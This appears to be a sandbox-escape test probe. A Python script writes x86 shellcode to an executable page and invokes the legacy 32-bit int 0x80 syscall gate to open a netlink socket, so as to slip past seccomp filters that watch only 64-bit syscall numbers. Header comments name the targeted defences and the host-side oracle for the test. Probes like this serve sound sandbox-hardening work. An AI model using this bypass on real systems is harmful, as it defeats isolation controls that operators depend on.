# attack: old_abi
# threat: escape
# tries: make system calls by the 32-bit door, int 0x80, where many filters look for the wrong numbers
# wall: wasm
# native: separate_kernel | seccomp
# control: a netlink socket was made through the old door
# oracle: the host's kernel shows no such socket among the descriptors of the sandbox's processes
import ctypes
import mmap
import os
import time

print("begun", flush=True)
ctypes.CDLL(None)
child = os.fork()
if child:
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code == -11:
        print("impossible: this kernel has no 32-bit door")
    raise SystemExit(1 if code else 0)
# socket(AF_NETLINK, SOCK_RAW, 0) by its 32-bit number, 359.
code = bytes.fromhex("53 b867010000 bb10000000 b903000000 31d2 cd80 5b c3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
door = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
print(door, flush=True)
if door >= 0:
    time.sleep(0.7)
os._exit(0 if door >= 0 else 1)
